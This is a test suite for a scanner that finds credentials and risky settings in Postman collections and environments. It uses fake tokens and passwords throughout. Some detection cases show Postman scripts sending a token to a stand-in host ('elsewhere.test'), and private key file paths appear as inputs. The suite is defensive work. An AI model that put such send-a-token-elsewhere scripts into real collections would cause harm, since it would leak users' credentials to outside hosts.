import { zipSync } from 'fflate';
import { DEFAULT_POLICY } from '../../src/config/default-policy.ts';
import { createScan } from '../../src/engine/scan.ts';
import type { Finding } from '../../src/model/finding.ts';
import { RULES } from '../../src/providers/generated/rules.ts';
import { buildFake } from '../support/fakes.ts';
import { collection, environment, item, scan, sourceFiles } from '../support/scan.ts';

const SECRET = 'Tr0ub4dor-7';
const JWT = ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiJhIn0', 'q9Zx7Lm2Kp4wR8Tn3Vb6Yc1Df5Gh0JkLsXzWeRtYuIo'].join('.');
const bearer = (token: string) => ({ auth: { type: 'bearer', bearer: [{ key: 'token', value: token }] } });
const header = (key: string, value: string) => ({ header: [{ key, value }] });

function credentials(findings: readonly Finding[]): Finding[] {
  return findings.filter(({ family }) => family === 'credential');
}

function only(findings: readonly Finding[]): Finding {
  const found = credentials(findings);
  expect(found.map(({ ruleId }) => ruleId)).toHaveLength(1);
  return found[0]!;
}

describe('a scan', () => {
  test('finds a literal token, with its place and request', () => {
    const { findings, counts, issues } = scan({ 'c.json': collection([item('Get', bearer(SECRET))]) });
    const finding = only(findings);
    expect(finding.secret!.reveal()).toBe(SECRET);
    expect(finding.occurrences).toEqual([
      expect.objectContaining({
        path: 'c.json',
        format: 'collection-v2.1',
        pointer: '/item/0/request/auth/bearer/0/value',
        role: 'auth-param',
        key: 'token',
        request: { name: 'Get', method: 'GET', host: 'api.shop.test' },
        decodedFrom: [],
      }),
    ]);
    expect(finding.usedBy).toEqual({ requests: 1, hosts: ['api.shop.test'] });
    expect(counts).toMatchObject({ files: 1, documents: 1, occurrences: 1 });
    expect(issues).toEqual([]);
  });

  test('groups the places of one secret', () => {
    const files = {
      'b.json': collection([item('1', bearer(SECRET))]),
      'a.json': collection([item('2', bearer(SECRET))]),
    };
    expect(only(scan(files).findings).occurrences.map(({ path }) => path)).toEqual(['a.json', 'b.json']);
  });

  test('keeps names as long as a name, and no pointer that leads through a text', () => {
    const long = 'name '.repeat(5_000);
    const body = { mode: 'raw', raw: JSON.stringify({ password: SECRET }) };
    const [byKey] = scan({
      'c.json': collection([item('Get', { header: [{ key: long, value: `Bearer ${JWT}` }] })]),
    }).findings;
    expect(byKey!.occurrences[0]!.key).toBe(long.slice(0, 1_000));
    const [named] = scan({ 'c.json': collection([item(long, { body })]) }).findings;
    expect(named!.occurrences[0]!.request!.name).toBe(long.slice(0, 1_000));
    const [within] = scan({ 'c.json': collection([item('Get', { [long]: { password: SECRET } })]) }).findings;
    expect(within?.occurrences[0]?.pointer ?? null).toBeNull();
  });

  test('finds nothing in references', () => {
    expect(scan({ 'c.json': collection([item('Get', bearer('{{token}}'))]) }).findings).toEqual([]);
  });

  test('does not depend on the order of files', () => {
    const files = {
      'a.json': collection([item('1', bearer(SECRET)), item('2', header('X-Api-Key', buildFake('<32 alnum>', 4)))]),
      'e.json': environment({ password: SECRET, baseUrl: 'http://api.shop.test' }),
      'b.json': collection([item('1', { ...bearer('{{password}}'), url: '{{baseUrl}}/x' })]),
    };
    const turned = Object.fromEntries(Object.entries(files).reverse());
    expect(JSON.stringify(scan(turned))).toBe(JSON.stringify(scan(files)));
  });

  test('leaves out what the policy ignores, and other tools’ files without Postman’s marks', () => {
    const policy = { ...DEFAULT_POLICY, ignorePaths: ['old/**'] };
    const file = collection([item('Get', bearer(SECRET))]);
    expect(scan({ 'old/c.json': file, 'package.json': { name: 'd' } }, { policy }).counts.files).toBe(0);
    expect(scan({ 'package.json': file }, { policy }).findings).toHaveLength(1);
  });
});

describe('status', () => {
  const old = { 'c.json': collection([item('Get', bearer(SECRET))]) };

  test('without a base everything is new', () => {
    expect(only(scan(old).findings).status).toBe('new');
  });

  test('what stands in a base version is not, wherever it has gone', () => {
    const moved = { 'sub/d.json': collection([item('Else', {}), item('Get', bearer(SECRET))]) };
    expect(only(scan(moved, { base: old }).findings).status).toBe('existing');
  });

  test('another secret in its place is', () => {
    const changed = { 'c.json': collection([item('Get', bearer('Tr0ub4dor-8'))]) };
    expect(only(scan(changed, { base: old }).findings).status).toBe('new');
  });

  test('base files may come in any order, and count nowhere', () => {
    const running = createScan({ rules: RULES, policy: DEFAULT_POLICY, today: '2026-11-22' });
    const [file] = sourceFiles(old);
    running.addFile(file!);
    running.addBaseFile(file!);
    const result = running.finish();
    expect(only(result.findings).status).toBe('existing');
    expect(result.counts.files).toBe(1);
  });
});

describe('variables', () => {
  const token = buildFake('<32 alnum>', 7);

  test('a value is used by the requests that send its variable', () => {
    const result = scan({
      'c.json': collection([
        item('1', { ...bearer('{{token}}'), url: '{{baseUrl}}/a' }),
        item('2', { ...bearer('{{token}}'), url: '{{baseUrl}}/b' }),
        item('3', {}),
      ]),
      'e.json': environment({ token, baseUrl: 'https://api.shop.test/v1' }),
    });
    const finding = only(result.findings);
    expect(finding.usedBy).toEqual({ requests: 2, hosts: ['api.shop.test'] });
    expect(finding.occurrences[0]).toMatchObject({ path: 'e.json', role: 'variable', key: 'token', request: null });
  });

  test('a saved example is no request of its own', () => {
    const request = { method: 'GET', url: 'https://api.shop.test/a', ...bearer('{{token}}') };
    const example = { name: 'ok', originalRequest: request, header: [], body: '{}' };
    const v2 = collection([{ name: '1', request, response: [example, example] }, item('2', bearer('{{token}}'))]);
    const saved = { ...request, auth: undefined, headers: 'Authorization: Bearer {{token}}' };
    const responses = [{ request: saved }, { request: JSON.stringify(saved) }];
    const v1 = { id: '1', name: 'Shop', order: ['2'], requests: [{ id: '2', name: 'Get', ...saved, responses }] };
    const nested = (depth: number): unknown => ({
      ...saved,
      responses: depth === 0 ? [] : [{ request: nested(depth - 1) }],
    });
    const deep = { ...v1, requests: [{ id: '2', name: 'Get', ...(nested(200) as object) }] };
    const usedBy = (content: unknown) =>
      only(scan({ 'c.json': content, 'e.json': environment({ token }) }).findings).usedBy;
    expect(usedBy(v2)).toEqual({ requests: 2, hosts: ['api.shop.test'] });
    expect(usedBy(v1)).toEqual({ requests: 1, hosts: ['api.shop.test'] });
    expect(usedBy(deep)).toEqual({ requests: 1, hosts: ['api.shop.test'] });
  });

  test('a script that sets a variable gives its value to the requests that send it', () => {
    const event = [{ listen: 'prerequest', script: { exec: [`pm.environment.set('token', '${token}');`] } }];
    const result = scan({ 'c.json': collection([item('1', bearer('{{token}}')), item('2', {})], { event }) });
    expect(only(result.findings).usedBy).toEqual({ requests: 1, hosts: ['api.shop.test'] });
  });

  test('a reference bomb ends', () => {
    const names = Array.from({ length: 40 }, (_, at) => `v${at}`);
    const bomb = Object.fromEntries(names.map((name, at) => [name, `{{v${at + 1}}}{{v${at + 1}}}`]));
    const files = {
      'c.json': collection([item('1', { ...bearer(token), url: 'https://{{v0}}.test' })]),
      'e.json': environment(bomb),
    };
    expect(only(scan(files).findings).usedBy.requests).toBe(1);
  });

  test('the auth of a collection counts for all its requests', () => {
    const result = scan({ 'c.json': collection([item('1', {}), item('2', {})], bearer(token)) });
    expect(only(result.findings).usedBy).toEqual({ requests: 2, hosts: ['api.shop.test'] });
  });
});

test('the auth of a folder counts for the requests below it', () => {
  const inner = { name: 'Orders', item: [item('1', {})], ...bearer(SECRET) };
  const result = scan({ 'c.json': collection([inner, item('2', { url: 'https://other.shop.test' })]) });
  expect(only(result.findings).usedBy).toEqual({ requests: 1, hosts: ['api.shop.test'] });
  expect(only(result.findings).occurrences[0]!.request).toBeNull();
});

describe('limits', () => {
  const file = { 'c.json': collection([item('Get', bearer(SECRET))]) };

  test.each([
    [{ fileBytes: 100 }, 'too-large'],
    [{ scanBytes: 100 }, 'scan-limit'],
    [{ valuesPerFile: 2 }, 'too-many-values'],
    [{ candidatesPerFile: 0 }, 'too-many-values'],
  ])('%j leaves an issue', (limits, code) => {
    const { findings, issues } = scan(file, { limits });
    expect(findings).toEqual([]);
    expect(issues).toEqual([expect.objectContaining({ code, path: 'c.json', incomplete: true })]);
  });

  test('a file of exactly the limit is read', () => {
    const { bytes } = sourceFiles(file)[0]!;
    const limits = { fileBytes: bytes.length, scanBytes: bytes.length };
    expect(scan(file, { limits }).issues).toEqual([]);
  });
});

describe('archives', () => {
  const inner = Buffer.from(JSON.stringify(collection([item('Get', bearer(SECRET))]), null, 2));

  test('are opened, and places counted within their files', () => {
    const bytes = zipSync({ 'x/collection/1.json': inner, 'x/archive.json': Buffer.from('{"collection":{"1":true}}') });
    const running = createScan({ rules: RULES, policy: DEFAULT_POLICY, today: '2026-11-22' });
    running.addFile({ path: 'export.zip', bytes, origin: 'disk' });
    const { findings, counts, issues } = running.finish();
    const [occurrence] = only(findings).occurrences;
    expect(occurrence).toMatchObject({ path: 'export.zip!/x/collection/1.json' });
    expect(inner.toString().split('\n')[occurrence!.startLine - 1]).toContain(SECRET);
    expect(counts.files).toBe(1);
    expect(issues).toEqual([]);
  });

  test('that are broken leave an issue', () => {
    const bytes = zipSync({ 'x/collection/1.json': inner }).slice(0, 60);
    const running = createScan({ rules: RULES, policy: DEFAULT_POLICY, today: '2026-11-22' });
    running.addFile({ path: 'export.zip', bytes, origin: 'disk' });
    expect(running.finish().issues).toContainEqual(
      expect.objectContaining({ code: 'archive-unreadable', incomplete: true }),
    );
  });
});

describe('an answer that no server has sent', () => {
  const RECORD = { id: 7, token: buildFake('<32 hex>', 3) };
  const severities = (response: object, request: Readonly<Record<string, unknown>> = {}): readonly string[] =>
    credentials(
      scan({ 'c.json': collection([{ ...(item('List orders', request) as object), response: [response] }]) }).findings,
    ).map(({ severity }) => severity);
  const received = { header: [{ key: 'Date', value: 'Tue, 01 Dec 2026 10:00:00 GMT' }] };

  test.each([
    ['a name of many meanings', RECORD, {}, ['info']],
    ['a name that leaves no doubt', { password: 'Tr4il-Mix-77' }, {}, ['medium']],
    ['the answer to a log-on', RECORD, { method: 'POST', url: 'https://api.shop.io/login' }, ['medium']],
  ])('%s', (_, body, request, expected) => {
    const answer = { name: 'ok', body: JSON.stringify({ orders: [body] }) };
    expect(severities(answer, { url: 'https://api.shop.io/orders', ...request })).toEqual(expected);
  });

  test('of one that a server has sent the same is worse', () => {
    const answer = { name: 'ok', body: JSON.stringify({ orders: [RECORD] }), ...received };
    expect(severities(answer, { url: 'https://api.shop.io/orders' })).toEqual(['medium']);
  });
});

describe('posture', () => {
  const rules = (findings: readonly Finding[]) =>
    findings.filter(({ family }) => family === 'posture').map(({ ruleId }) => ruleId);

  const places = (findings: readonly Finding[]) =>
    findings
      .filter(({ family }) => family === 'posture')
      .map(({ ruleId, status, occurrences }) => [ruleId, status, occurrences.map(({ pointer }) => pointer)]);

  test('a credential over plain http, but not to this machine', () => {
    const to = (url: string) => scan({ 'c.json': collection([item('Get', { ...bearer(SECRET), url })]) });
    expect(rules(to('http://api.shop.io/x').findings)).toEqual(['posture-credentials-over-http']);
    const near = [
      'localhost:3000',
      '127.0.0.1',
      '192.168.0.7:8080',
      '10.1.2.3',
      'files.lan',
      'shop.test',
      'api.example.com',
    ];
    for (const host of near) {
      expect(rules(to(`http://${host}/x`).findings)).toEqual([]);
    }
    expect(rules(to('http://192.169.0.7/x').findings)).toEqual(['posture-credentials-over-http']);
    expect(rules(to('https://api.shop.io/x').findings)).toEqual([]);
  });

  test.each([
    ['api.shop.io/x', true],
    ['{{tenant}}/x', false],
    ['{{scheme}}api.shop.io/x', false],
    ['https://{{host}}/x', false],
    ['{{host}}/x', true],
    ['{{base}}/x', false],
    ['wss://api.shop.io/x', false],
  ])('Postman sends what has no scheme over plain http: %s', (url, isPlain) => {
    const variable = [
      { key: 'host', value: 'api.shop.io' },
      { key: 'base', value: 'https://api.shop.io' },
    ];
    const { findings } = scan({
      'c.json': { ...(collection([item('Get', { ...bearer(SECRET), url })]) as object), variable },
    });
    expect(credentials(findings)).toHaveLength(1);
    expect(rules(findings)).toEqual(isPlain ? ['posture-credentials-over-http'] : []);
  });

  test('an address of gRPC has no scheme, and says nothing of how it is sent', () => {
    const request = (kind: string) =>
      `$kind: ${kind}\nurl: api.shop.io:443\nmetadata:\n  authorization: Bearer ${SECRET}\n`;
    const to = (kind: string) => scan({ 'postman/collections/c/Get.request.yaml': request(kind) }).findings;
    expect(credentials(to('grpc-request'))).toHaveLength(1);
    expect(rules(to('grpc-request'))).toEqual([]);
    expect(rules(to('http-request'))).toEqual(['posture-credentials-over-http']);
  });

  describe('a reference to a credential over plain http', () => {
    const over = (url: string, request: object) =>
      scan({ 'c.json': collection([item('Get', { url, ...request })]) }).findings.filter(
        ({ ruleId }) => ruleId === 'posture-credentials-over-http',
      );
    const query = (key: string, value: string) => ({
      url: { raw: `http://api.shop.io/x?${key}=${value}`, query: [{ key, value }] },
    });
    const apikey = [
      { key: 'in', value: 'header' },
      { key: 'key', value: 'X-Key' },
      { key: 'value', value: '{{k}}' },
    ];

    test.each<[string, object, boolean]>([
      ['a bearer token', bearer('{{t}}'), true],
      ['an API key', { auth: { type: 'apikey', apikey } }, true],
      ['a header', { header: [{ key: 'Authorization', value: 'Bearer {{t}}' }] }, true],
      ['a parameter', query('access_token', '{{t}}'), true],
      ['a parameter that only its variable names', query('appid', '{{OWapikey}}'), true],
      ['a body', { body: { mode: 'raw', raw: '{"email": "{{e}}", "password": "{{p}}"}' } }, true],
      ['a user name', { body: { mode: 'raw', raw: '{"email": "{{e}}"}' } }, false],
      ['an id', query('id', '{{orderId}}'), false],
      ['a page', query('cursor', '{{nextPageToken}}'), false],
      ['a header that is off', { header: [{ key: 'Authorization', value: 'Bearer {{t}}', disabled: true }] }, false],
      ['nothing', { auth: { type: 'noauth' } }, false],
    ])('%s', (_, request, isTold) => {
      expect(over('http://api.shop.io/x', request)).toHaveLength(isTold ? 1 : 0);
    });

    test.each([
      ['http://api.shop.io/x', true],
      ['https://api.shop.io/x', false],
      ['http://localhost:3000/x', false],
      ['http://10.1.2.3/x', false],
      ['http://shop.test/x', false],
      ['http://restful-booker.herokuapp.com/x', false],
      ['http://{{host}}/x', false],
    ])('sent to %s', (url, isTold) => {
      expect(over(url, bearer('{{t}}'))).toHaveLength(isTold ? 1 : 0);
    });

    test('is told once for each place that the requests of a file go to, with its host', () => {
      const to = (url: string) => item(url, { url, ...bearer('{{t}}') });
      const requests = [to('{{base}}/a'), to('{{base}}/b'), to('http://api.shop.io/c'), to('https://api.shop.io/d')];
      const { findings } = scan({
        'c.json': collection(requests),
        'e.json': environment({ base: 'http://shop.io' }),
      });
      const posture = findings.find(({ family }) => family === 'posture')!;
      expect(posture.occurrences.map(({ pointer, request }) => [pointer, request?.host])).toEqual([
        ['/item/0/request/auth/bearer/0/value', 'shop.io'],
        ['/item/2/request/auth/bearer/0/value', 'api.shop.io'],
      ]);
    });

    test('counts what a collection sets for the requests that inherit it', () => {
      const withAuth = (url: string, auth: object | null) => ({
        ...(collection([item('Get', auth === null ? { url } : { url, auth })]) as object),
        ...bearer('{{t}}'),
      });
      const told = (url: string, auth: object | null = null) => rules(scan({ 'c.json': withAuth(url, auth) }).findings);
      expect(told('http://api.shop.io/x')).toEqual(['posture-credentials-over-http']);
      expect(told('https://api.shop.io/x')).toEqual([]);
      expect(told('http://api.shop.io/x', { type: 'noauth' })).toEqual([]);
    });

    test.each([
      ["KJUR.jws.JWS.sign('RS256', header, payload, pm.environment.get('signingKey'));", []],
      [
        "pm.sendRequest({ url: 'http://id.shop.io/t', header: { Authorization: 'Bearer ' + pm.environment.get('t') } });",
        ['posture-credentials-over-http'],
      ],
    ])('counts what a script sends, but not what it signs with: %s', (script, expected) => {
      const url = 'http://api.shop.io/x';
      const event = [{ listen: 'prerequest', script: { exec: [script] } }];
      const { findings } = scan({ 'c.json': collection([{ ...(item('Get', { url }) as object), event }]) });
      expect(rules(findings).filter((rule) => rule !== 'posture-script-sends-elsewhere')).toEqual(expected);
    });

    test('is not told of what a saved example sent', () => {
      const originalRequest = { method: 'GET', url: 'http://api.shop.io/x', ...bearer('{{t}}') };
      const answered = {
        ...(item('Get', { url: 'https://api.shop.io/x' }) as object),
        response: [{ originalRequest }],
      };
      expect(rules(scan({ 'c.json': collection([answered]) }).findings)).toEqual([]);
    });
  });

  test('a client secret that goes to a token url over plain http', () => {
    const oauth2 = (accessTokenUrl: string) =>
      Object.entries({ accessTokenUrl, clientSecret: buildFake('<32 alnum>', 11) }).map(([key, value]) => ({
        key,
        value,
      }));
    const to = (url: string) =>
      scan({ 'c.json': collection([item('Get', { auth: { type: 'oauth2', oauth2: oauth2(url) } })]) });
    expect(rules(to('http://login.shop.io/token').findings)).toEqual(['posture-credentials-over-http']);
    expect(rules(to('https://login.shop.io/token').findings)).toEqual([]);
  });

  describe('a credential in a url', () => {
    const KEY = buildFake('<32 alnum>', 9);
    const withKey = (key = KEY) => ({
      url: { raw: `https://api.shop.io/x?api_key=${key}`, query: [{ key: 'api_key', value: key }] },
    });

    test('is told once of what stands in the url and in the list of its parameters', () => {
      const { findings } = scan({ 'c.json': collection([item('Get', withKey())]) });
      expect(places(findings)).toEqual([['posture-credentials-in-url', 'new', ['/item/0/request/url/raw']]]);
      const [posture] = findings.filter(({ family }) => family === 'posture');
      expect(posture).toMatchObject({ severity: 'info', secret: null, preview: '' });
      expect(posture!.fingerprint).toMatch(/^pw1_[0-9a-f]{32}$/);
    });

    test.each(['localhost:8080', '192.168.0.7'])('is not told of one that goes to %s alone', (host) => {
      const raw = `http://${host}/x?api_key=${KEY}`;
      const { findings } = scan({ 'c.json': collection([item('Get', { url: { raw, host: [host] } })]) });
      expect(credentials(findings)).toHaveLength(1);
      expect(rules(findings)).toEqual([]);
    });

    test('is one finding a file, with a place for each request', () => {
      const requests = [item('Get', withKey()), item('Post', withKey())];
      const { findings } = scan({ 'a.json': collection(requests), 'b.json': collection(requests.slice(1)) });
      expect(places(findings)).toEqual([
        ['posture-credentials-in-url', 'new', ['/item/0/request/url/raw', '/item/1/request/url/raw']],
        ['posture-credentials-in-url', 'new', ['/item/0/request/url/raw']],
      ]);
    });

    test('names the new places alone if there are some', () => {
      const old = item('Get', withKey());
      const base = { 'c.json': collection([old]) };
      const added = item('Post', withKey(buildFake('<32 alnum>', 10)));
      expect(places(scan({ 'c.json': collection([old]) }, { base }).findings)).toEqual([
        ['posture-credentials-in-url', 'existing', ['/item/0/request/url/raw']],
      ]);
      expect(places(scan({ 'c.json': collection([old, added]) }, { base }).findings)).toEqual([
        ['posture-credentials-in-url', 'new', ['/item/1/request/url/raw']],
      ]);
    });

    test.each([
      [
        'in the query alone',
        `https://api.openweathermap.org/data/2.5/weather?appid=${buildFake('<32 lower-alnum>', 9)}`,
        [],
      ],
      ['in the path alone', `https://api.telegram.org/bot${buildFake('<10 digits>:AA<33 base64url>', 9)}/getMe`, []],
      ['in what was signed', `https://shop.io/x?expires=1893456000&signature=${buildFake('<64 hex>', 9)}`, []],
      [
        'in a header too',
        `https://api.trello.com/1/boards?token=${buildFake('<64 alnum>', 9)}`,
        ['posture-credentials-in-url'],
      ],
    ])('is told if something can be done about it: its service takes it %s', (_, url, expected) => {
      const { findings } = scan({ 'c.json': collection([item('Get', { url })]) });
      expect(credentials(findings)).toHaveLength(1);
      expect(rules(findings)).toEqual(expected);
    });

    test.each([
      ['Reset password', `/auth/password-reset/${buildFake('<48 base64url>', 9)}`, []],
      ['Verify email', `/auth/verify-email?token=${buildFake('<48 base64url>', 9)}`, []],
      ['Confirm', `/auth/confirm?email_token=${buildFake('<48 base64url>', 9)}`, []],
      ['Verify email', `/verify?api_key=${KEY}`, ['posture-credentials-in-url']],
      ['Verify email', `/verify?access_token=${buildFake('<48 base64url>', 9)}`, ['posture-credentials-in-url']],
      ['Verify', `/verify?token=${buildFake('<48 base64url>', 9)}`, ['posture-credentials-in-url']],
      ['Email', `/mails?token=${buildFake('<48 base64url>', 9)}`, ['posture-credentials-in-url']],
      ['Refresh', `/auth/refresh/${buildFake('<48 base64url>', 9)}`, ['posture-credentials-in-url']],
    ])('is not told of the token of a mailed link: %s %s', (name, path, expected) => {
      const { findings } = scan({ 'c.json': collection([item(name, { url: `https://api.shop.io${path}` })]) });
      expect(credentials(findings)).toHaveLength(1);
      expect(rules(findings)).toEqual(expected);
    });

    test('is not told of a link that a saved answer holds', () => {
      const body = JSON.stringify({ next: `http://api.shop.io/x?api_key=${KEY}` });
      const answered = { ...(item('Get', {}) as object), response: [{ name: 'ok', body }] };
      const { findings } = scan({ 'c.json': collection([answered]) });
      expect(credentials(findings)).toHaveLength(1);
      expect(rules(findings)).toEqual([]);
    });
  });

  test.each([
    ['a reference', '{{vault:token}}', []],
    ['what is to be filled in', '<your token>', []],
    ['nothing', '', []],
    ['a credential, of which a finding tells already', SECRET, []],
    ['what no rule knows', 'Kestrel', ['posture-secret-type-plaintext']],
    ['the name of what is to be put there', 'longtoken', []],
  ])('a variable of type secret that holds %s', (_, value, expected) => {
    expect(rules(scan({ 'e.json': environment({ region: value }, 'secret') }).findings)).toEqual(expected);
  });

  test.each([
    ['/home/ann/certs/client.pem', ['posture-private-certificate-path']],
    ['C:\\keys\\id_rsa', ['posture-private-certificate-path']],
    ['/home/ann/public/server.key', ['posture-private-certificate-path']],
    ['/home/ann/certs/fullchain.pem', []],
    ['/home/ann/certs/pubkey.pem', []],
    ['/home/ann/certs/rsa_public.pem', []],
    ['/home/ann/certs/ca.pem', []],
    ['/home/ann/certs/photo.png', []],
  ])('the file %s', (src, expected) => {
    const body = { mode: 'formdata', formdata: [{ key: 'file', type: 'file', src }] };
    expect(rules(scan({ 'c.json': collection([item('Upload', { body })]) }).findings)).toEqual(expected);
  });

  describe('of scripts', () => {
    const withScript = (...exec: string[]) => {
      const event = [{ listen: 'test', script: { type: 'text/javascript', exec } }];
      return rules(scan({ 'c.json': collection([{ ...(item('Get', {}) as object), event }]) }).findings);
    };

    test('one that prints a token, but not one that prints a count', () => {
      expect(withScript('const accessToken = pm.response.json().t;', 'console.log(accessToken);')).toEqual([
        'posture-script-prints-secret',
      ]);
      expect(withScript('const count = 3;', 'console.log(count);')).toEqual([]);
    });

    test.each([
      [`console.log(\`token: \${token}\`)`, true],
      ['console.log(email, newEmail, pass)', true],
      ['console.info(data.apiKey)', true],
      [`console.log(\`\${key} = \${value}\`)`, false],
      ['console.log("Rate key: " + rateKey)', false],
      ['console.log(tokenType, nextPageToken)', false],
      ['console.log("token")', false],
    ])('%s', (code, isTold) => {
      expect(withScript(code)).toEqual(isTold ? ['posture-script-prints-secret'] : []);
    });

    test.each([
      ["pm.sendRequest('https://elsewhere.test/x' + token, () => {});", true],
      [`pm.sendRequest(\`https://elsewhere.test/x?t=\${token}\`, () => {});`, true],
      ["pm.sendRequest({ url: 'https://elsewhere.test/x', method: 'POST' }, () => {});", true],
      ["pm.sendRequest({ url: 'https://elsewhere.test/x', header: { 'X-T': token } }, () => {});", true],
      ["pm.sendRequest({ header: { 'X-T': token }, url: 'https://elsewhere.test/x' }, () => {});", true],
      ["pm.sendRequest({ url: 'https://elsewhere.test/x' + token }, () => {});", true],
      ["pm.sendRequest({ url: 'https://elsewhere.test/x', method: 'GET' }, () => {});", false],
      ["pm.sendRequest({ url: 'https://elsewhere.test/x' }, () => {});", false],
      ["pm.sendRequest('https://elsewhere.test/lib.js', () => {});", false],
      ["pm.sendRequest('https://api.shop.test/x' + token, () => {});", false],
      ["pm.sendRequest('{{unknown}}/x' + token, () => {});", false],
    ])('one that has %s', (code, isTold) => {
      expect(withScript(code)).toEqual(isTold ? ['posture-script-sends-elsewhere'] : []);
    });

    test('is not read if scripts are left out', () => {
      const event = [{ listen: 'test', script: { exec: [`const apiSecret = '${buildFake('<40 alnum>')}';`] } }];
      const files = { 'c.json': collection([{ ...(item('Get', {}) as object), event }]) };
      expect(scan(files).findings).toHaveLength(1);
      expect(scan(files, { scripts: false }).findings).toEqual([]);
    });
  });

  test('verification switched off', () => {
    const off = { ...(item('Get', {}) as object), protocolProfileBehavior: { strictSSL: false } };
    expect(rules(scan({ 'c.json': collection([off]) }).findings)).toEqual(['posture-tls-verification-off']);
  });
});

describe('the shortest values', () => {
  const files = { 'e.json': environment({ password: 'Zq', pin: '42' }) };

  test('hold nothing for the built-in rules', () => {
    expect(credentials(scan(files).findings)).toEqual([]);
  });

  test('may be what a rule of the policy looks for', () => {
    const rule = { id: 'acme-pin', title: 'Acme PIN', severity: 'high', pattern: '\\d{2}' } as const;
    const policy = { ...DEFAULT_POLICY, customRules: [{ ...rule, keywords: [], keys: ['pin'], hosts: [] }] };
    expect(credentials(scan(files, { policy }).findings).map(({ ruleId }) => ruleId)).toEqual(['acme-pin']);
  });
});
